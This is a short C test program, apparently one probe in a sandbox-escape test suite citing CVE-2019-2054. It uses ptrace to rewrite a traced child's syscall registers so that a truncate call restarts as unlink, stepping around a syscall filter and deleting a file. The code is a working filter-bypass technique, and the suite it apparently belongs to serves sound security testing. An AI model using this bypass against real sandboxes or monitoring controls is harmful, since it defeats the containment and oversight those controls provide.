// tries: to have a task that is held skip the call it is held in, and make another at once
// works: a tracer may rewrite its tracee's registers wherever it stops
// see: ptrace(2), PTRACE_SETREGS; CVE-2019-2054 (a filter that ptrace steps around)
// goal: change
#include "../kit.h"

int main(void)
{
	pid_t child = MUST(fork());
	time_t end = time(NULL) + 6;
	int status, turns = 0;

	if (!child) {
		MUST(ptrace(PTRACE_TRACEME, 0, NULL, NULL));
		raise(SIGSTOP);
		_exit(truncate(env("ASKED"), 0) < 0);
	}
	while (time(NULL) < end && waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
		struct user_regs_struct registers;

		/* Stopped within truncate(2): it starts again as unlink(2), which takes the same path. */
		if (turns++ > 0 && ptrace(PTRACE_GETREGS, child, NULL, &registers) == 0 &&
		    (registers.orig_rax == SYS_truncate || registers.rax == SYS_truncate)) {
			registers.orig_rax = registers.orig_rax == SYS_truncate ? SYS_unlink : registers.orig_rax;
			registers.rax = registers.rax == SYS_truncate ? SYS_unlink : registers.rax;
			ptrace(PTRACE_SETREGS, child, NULL, &registers);
		}
		ptrace(PTRACE_SYSCALL, child, NULL, NULL);
	}
	kill(child, SIGKILL);
	return 0;
}
